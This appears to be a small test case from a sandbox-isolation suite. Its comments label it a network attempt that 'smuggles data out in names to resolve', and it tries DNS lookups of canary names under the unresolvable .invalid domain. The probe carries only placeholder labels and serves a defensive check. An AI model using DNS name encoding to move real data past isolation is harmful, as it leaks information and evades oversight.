# category: network
# attempt: smuggles data out in names to resolve
# needs: isolation
# allow: returned, failed, limit
import socket

for n in range(3):
    try:
        socket.getaddrinfo(f"canary{n}.invalid", 80)
    except OSError:
        pass
